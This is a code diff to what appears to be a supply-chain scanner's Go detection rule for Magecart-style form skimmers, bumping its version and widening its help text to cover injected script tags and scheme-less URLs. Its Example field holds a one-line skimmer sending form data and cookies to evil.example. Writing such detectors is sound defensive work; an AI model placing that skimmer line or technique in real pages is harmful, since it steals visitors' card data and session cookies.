@@ -20,13 +20,14 @@ type FormSkimmer struct{}
 // Meta implements analyze.Rule.
 func (FormSkimmer) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/form-skimmer", Version: 6, Title: "Skims form fields and cookies",
+		ID: "browser/form-skimmer", Version: 7, Title: "Skims form fields and cookies",
 		Help: "Code picks payment card fields out of the page's forms (cc-number, cvv, input[name*=card]…) on submit (its own submit " +
 			"listener, or one of a small module of the package that loads it: a form hook handing the form to its serializer), or reads every form's " +
 			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (the URL given to fetch, XHR, " +
 			"sendBeacon, a WebSocket or an HTTP client, or set as an Image's source; a link elsewhere in the file does not count), itself or through a small module of the package that loads it and sends. " +
 			"This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
-			"alone, which form-analytics and session-replay SDKs also read.",
+			"alone, which form-analytics and session-replay SDKs also read. A script the code keeps as text for the pages it builds (a build " +
+			"plugin's injected tag) is read as code, and a URL without a scheme (//host/p) takes the page's.",
 		Remediation:     "Remove the package from any site build immediately.",
 		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigCred, Needs: analyze.NeedCode,
